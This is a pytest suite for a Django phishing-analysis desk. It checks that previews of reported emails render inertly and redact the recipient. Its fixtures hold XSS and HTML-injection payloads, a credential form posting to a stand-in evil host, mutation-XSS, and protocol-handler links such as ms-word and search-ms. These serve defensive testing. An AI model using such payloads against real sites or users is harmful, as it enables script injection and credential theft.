"""The analyst's safe preview: whatever a mail holds, nothing in the page acts, loads or can be clicked."""

import base64
import io
import time

import pytest
from django.http import HttpResponse
from django.test import Client
from PIL import Image
from selectolax.lexbor import LexborHTMLParser

from charteroak.records.accounts.models import Organisation, User
from charteroak.records.reports.models import Campaign, Report
from charteroak.services.reports import PhishReport, Reporter, file_phish_report

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data_directory", "desk")]

HEAD = """\
Received: from mail.example.net (mail.example.net [203.0.113.7]) by mx.example.org; Sun, 01 Mar 2026 09:10:00 -0500
Received: from home.example.net ([203.0.113.9]) by mail.example.net; Sun, 01 Mar 2026 09:12:00 -0500
From: "Nutmeg <script>alert(1)</script>" <service@login-nutmeg.example.net>
Reply-To: "<img src=x onerror=alert(2)>" <other@example.com>
Return-Path: <bounce@example.com>
To: Clerk Bell <clerk.bell@example.org>
Subject: {subject}
Date: Sun, 01 Mar 2026 09:11:58 -0500
Message-ID: <1@login-nutmeg.example.net>
MIME-Version: 1.0
"""
HTML = HEAD + "Content-Type: text/html; charset=utf-8\n\n{body}\n"
SHOWN = {"p", "br", "b", "strong", "i", "em", "u", "s", "code", "div", "blockquote", "pre", "ul", "ol", "li"} | {
    "table",
    "tbody",
    "tr",
    "td",
}
HOSTILE = {
    "script": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Hello there",
    "script in the plain text": "Hello there &lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript link": "<a href='javascript:alert(1)'>Hello there</a><a href='java\tscript:alert(1)'>x</a>",
    "data link": "<a href='data:text/html;base64,PHNjcmlwdD4='>Hello there</a>",
    "event attributes": "<p onclick=alert(1) onmouseover='alert(2)' style='x:expression(alert(3))'>Hello there</p>",
    "drawing": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg><p>Hello there",
    "foreign content": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>"
    "Hello there",
    "picture sets": "<img srcset='https://evil.example/1.png 1x'><picture><source srcset=//evil.example></picture>"
    "Hello there",
    "style sheet": "<style>@import url(https://evil.example/x.css)</style><p style='background:url(//evil.example)'>"
    "Hello there",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><p>Hello there",
    "base": "<base href='https://evil.example/'><a href='login'>Hello there</a>",
    "form": "<form action='https://evil.example/take'><input type=password name=p onfocus=alert(1)>Hello there</form>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x><p>Hello there",
    "way out of its box": "</div></div></main></body></html><p>Hello there</p><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>--><p>Hello there<!-- <img src=x> --",
    "unclosed": "<p>Hello there<a href='https://evil.example/<script>alert(1)//",
    "template words": "<p>Hello there {{ report.receipt }} {% csrf_token %}</p>",
    "nested tables": "<p>Hello there</p>" + "<table><tr><td>" * 900 + "deep",
    "deep boxes": "<p>Hello there</p>" + "<div>" * 100_000,
    "references": "<p>Hello there</p>" + "&" * 200_000,
    "a megabyte": "<p>Hello there</p>" + "<p>words and <b>more</b> words https://evil.example/a</p>\n" * 18_000,
    "turned around": "<p dir=rtl>Hello there \u202egpj.exe\u202c \u05e9\u05dc\u05d5\u05dd</p>",
}


def put(message: str | bytes, desk: Organisation) -> Report:
    data = message.encode() if isinstance(message, str) else message
    return file_phish_report(PhishReport(message=data, outcome="unsuccessful"), Reporter(), desk=desk)


def picture(form: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, (10, 90, 60)).save(made, format=form)
    return made.getvalue()


def with_pictures(*pictures: bytes) -> bytes:
    parts = "".join(
        f"--b\nContent-Type: image/png; name=p.png\nContent-Disposition: inline\n"
        f"Content-Transfer-Encoding: base64\n\n{base64.b64encode(each).decode()}\n"
        for each in pictures
    )
    head = HEAD.format(subject="Pictures") + "Content-Type: multipart/mixed; boundary=b\n\n"
    return f"{head}--b\nContent-Type: text/plain\n\nWords\n{parts}--b--\n".encode()


@pytest.fixture
def at_desk(client: Client, analyst: User) -> Client:
    client.force_login(analyst)
    return client


def assert_nothing_acts(response: HttpResponse) -> LexborHTMLParser:
    assert response.status_code == 200
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    page = LexborHTMLParser(response.content.decode())
    for node in page.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), node.html
            assert name not in {"style", "srcset", "srcdoc", "background", "formaction"}, node.html
            if name in {"href", "src", "action", "xlink:href"}:
                assert (value or "").startswith(("/", "#")), node.html
                assert not (value or "").startswith("//"), node.html
    main = page.css_first("main")
    assert main is not None
    forbidden = "script, style, iframe, object, embed, svg:not(.shape), math, meta, base, link, form, input, video"
    assert not [node.html for node in main.css(forbidden) if "shapes.svg" not in (node.html or "")]
    for box in main.css(".mail-shown"):
        inside = [node for node in box.css("*") if node.html != box.html]
        assert {node.tag for node in inside} <= SHOWN
        assert not [node.html for node in inside if node.attributes]
    text = response.content.decode()
    assert "http://evil" not in text
    assert "https://evil" not in text
    return page


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_of_a_hostile_mail_acts_in_the_page(at_desk: Client, desk: Organisation, body: str) -> None:
    subject = "<script>alert(9)</script> \u202e <svg/onload=alert(1)>"
    report = put(HTML.format(subject=subject, body=body), desk)
    began = time.process_time()
    page = assert_nothing_acts(at_desk.get(f"/desk/reports/{report.pk}/mail/"))
    assert time.process_time() - began < 3
    assert "Hello there" in page.css_first(".mail-shown").text()
    assert len(page.html or "") < 400_000


def test_links_fields_and_pictures_are_told_in_words(at_desk: Client, desk: Organisation) -> None:
    body = (
        '<a href="https://evil.example/in?a=1&amp;b=2">Your account</a><img src="cid:logo" alt="Logo">'
        '<form action="https://evil.example/take"><input type="password" name="code"></form>'
    )
    report = put(HTML.format(subject="Locked", body=body), desk)
    shown = assert_nothing_acts(at_desk.get(f"/desk/reports/{report.pk}/mail/")).css_first(".mail-shown").text()
    assert "[→ hxxps://evil[.]example/in?a=1&b=2] Your account" in shown
    assert "[picture Logo cid:logo]" in shown
    assert "[form hxxps://evil[.]example/take" in shown
    assert "[field password code]" in shown


@pytest.mark.parametrize(
    "address",
    [
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:evil.example",
        "ht&#9;tps://evil.example",
        "evil.example/login",
        "search-ms:query=x&crumb=location:\\\\evil.example\\x",
        "ms-word:ofe|u|https://evil.example/x.docm",
    ],
)
def test_a_link_that_other_programs_complete_is_told_and_defanged(
    at_desk: Client, desk: Organisation, address: str
) -> None:
    report = put(HTML.format(subject="a", body=f'<p>Hello there <a href="{address}">now</a></p>'), desk)
    page = assert_nothing_acts(at_desk.get(f"/desk/reports/{report.pk}/mail/"))
    assert "evil[.]example" in page.css_first(".mail-shown").text()
    assert "evil.example" not in (page.html or "")


def test_the_turn_of_a_text_is_written_out(at_desk: Client, desk: Organisation) -> None:
    report = put(HTML.format(subject="a", body=HOSTILE["turned around"]), desk)
    page = at_desk.get(f"/desk/reports/{report.pk}/mail/").content.decode()
    assert "\u202e" not in page
    assert "[U+202E]gpj" in page


def test_who_received_the_mail_is_left_out_and_the_journey_says_when_a_clock_runs_backwards(
    at_desk: Client, desk: Organisation
) -> None:
    report = put(HTML.format(subject="For clerk.bell@example.org", body="<p>Dear clerk.bell@example.org"), desk)
    page = at_desk.get(f"/desk/reports/{report.pk}/mail/").content.decode()
    assert "clerk.bell" not in page
    assert "Clock runs backwards" in page
    assert "-120 s" in page
    assert "other[@]example[.]com" in page


def test_a_mail_that_passed_no_relay_is_shown(at_desk: Client, desk: Organisation) -> None:
    report = put(b"From: a@b.example\nSubject: Lunch\nDate: Sun, 01 Mar 2026 09:11:58 -0500\n\nSoup\n", desk)
    page = assert_nothing_acts(at_desk.get(f"/desk/reports/{report.pk}/mail/"))
    assert "Soup" in page.css_first(".mail-shown").text()


def test_a_picture_is_made_anew_and_served_from_an_address_of_its_own(at_desk: Client, desk: Organisation) -> None:
    original = picture("JPEG", (900, 600)) + b"<script>alert(1)</script>"
    report = put(with_pictures(original), desk)
    page = assert_nothing_acts(at_desk.get(f"/desk/reports/{report.pk}/mail/"))
    address = page.css_first(".thumbnails img").attributes["src"] or ""
    answer = at_desk.get(address)
    assert answer.headers["Content-Type"] == "image/png"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer.headers["Cache-Control"]
    assert b"script" not in answer.content
    with Image.open(io.BytesIO(answer.content)) as made:
        assert made.format == "PNG"
        assert max(made.size) <= 480


def test_pictures_are_bounded_in_number_and_a_broken_one_is_not_found(at_desk: Client, desk: Organisation) -> None:
    report = put(with_pictures(b"\x89PNG\r\n\x1a\nbroken", *[picture(size=(9, n + 1)) for n in range(10)]), desk)
    page = at_desk.get(f"/desk/reports/{report.pk}/mail/").content.decode()
    assert page.count("<img loading") + page.count('loading="lazy"') == 8
    assert "3 more are not shown." in page
    root = f"/desk/reports/{report.pk}/mail/pictures"
    assert [at_desk.get(f"{root}/{n}/").status_code for n in (0, 1, 2, 9, 10**30)] == [404, 404, 200, 404, 404]


def test_members_find_no_preview(client: Client, security_lead: User, desk: Organisation) -> None:
    report = put(with_pictures(picture()), desk)
    client.force_login(security_lead)
    for end in ("mail/", "mail/pictures/1/", "compare/", f"compare/?with={report.pk}"):
        assert client.get(f"/desk/reports/{report.pk}/{end}").status_code == 404


def test_two_mails_of_a_campaign_stand_side_by_side_with_their_differences_first(
    at_desk: Client, desk: Organisation
) -> None:
    body = "<p>Verify your password now: <a href='https://login-nutmeg.example.net/verify'>here</a>{}</p><script>x</script>"
    first = put(HTML.format(subject="Your account is locked", body=body.format("")), desk)
    more = "<a href='https://evil.example/other'>or here</a>"
    second = put(HTML.format(subject="Your account is locked again", body=body.format(more)), desk)
    assert Campaign.objects.get().reports.count() == 2
    choice = at_desk.get(f"/desk/reports/{first.pk}/compare/").content.decode()
    assert f"?with={second.pk}" in choice
    response = at_desk.get(f"/desk/reports/{first.pk}/compare/?with={second.pk}")
    page = assert_nothing_acts(response)
    text = page.css_first("main").text()
    assert "They differ in 2 ways." in text
    assert len(page.css(".side-by-side > div")) == 2
    assert text.index("hxxps://evil[.]example/other") < text.index("Mail of report")
    assert "Your account is locked again" in text[: text.index("Mail of report")]


@pytest.mark.parametrize("other", ["0", "x", "9" * 40, "self", "stranger"])
def test_what_cannot_be_compared_is_not_found(at_desk: Client, desk: Organisation, other: str) -> None:
    first = put(HTML.format(subject="Locked", body="<p>Verify <a href='https://one.example'>here</a>"), desk)
    if other == "stranger":
        other = str(put(b"From: a@b.example\nSubject: Lunch\nDate: Sun, 01 Mar 2026 09:11:58 -0500\n\nSoup\n", desk).pk)
    other = str(first.pk) if other == "self" else other
    assert at_desk.get(f"/desk/reports/{first.pk}/compare/?with={other}").status_code == 404


ENCODED = base64.b64encode(b"clerk.bell@example.org").decode()
DISGUISED = {
    "reference": "<p>Hello clerk.bell&#64;example.org</p>",
    "split by a tag": "<p>Hello clerk.bell@example.<b>org</b></p>",
    "split by boxes": "<div>Hello clerk.bell@example.</div><div>org</div>",
    "mark in a tag of its own": "<p>Hello clerk.bell<span>@</span>example.org</p>",
    "unseen character": "<p>Hello clerk.bell@exam\u200bple.org</p>",
    "percent": '<p>Hello <a href="https://evil.example/?u=clerk.bell%40example.org">there</a></p>',
    "base64": f'<p>Hello <a href="https://evil.example/?u={ENCODED}">there</a></p>',
    "far down a link": f'<p>Hello <a href="https://evil.example/{"a" * 270}/clerk.bell%40example.org/b">there</a></p>',
    "name": "<p>Hello Clerk Bell, or Bell, Clerk</p>",
    "name split by a tag": "<p>Hello <b>Clerk</b> Bell</p>",
}


IN_PLAIN_TEXT = {
    "unseen character": "Hello clerk.bell@exam\u200bple.org",
    "percent": "Hello https://evil.example/?u=clerk.bell%40example.org",
    "base64": f"Hello https://evil.example/?u={ENCODED}",
    "name": "Hello Clerk Bell, or Bell, Clerk",
}


@pytest.mark.parametrize(
    "message",
    [
        *(pytest.param(HTML.format(subject="Pay", body=body), id=name) for name, body in DISGUISED.items()),
        *(
            pytest.param(HTML.replace("text/html", "text/plain").format(subject="Pay", body=body), id=f"{name}, plain")
            for name, body in IN_PLAIN_TEXT.items()
        ),
    ],
)
def test_whoever_received_the_mail_stays_out_however_the_lure_writes_them(
    at_desk: Client, desk: Organisation, message: str
) -> None:
    page = assert_nothing_acts(at_desk.get(f"/desk/reports/{put(message, desk).pk}/mail/"))
    shown = page.css_first(".mail-shown").text()
    main = page.css_first("main").text()
    said = "".join(main.split()).replace("[.]", ".").replace("[@]", "@").replace("\u200b", "")
    assert "Hello" in shown
    for hidden in ("clerk.bell@example", "clerk.bell%40", "clerk.bell&", ENCODED, "ClerkBell", "Bell,Clerk"):
        assert hidden not in said
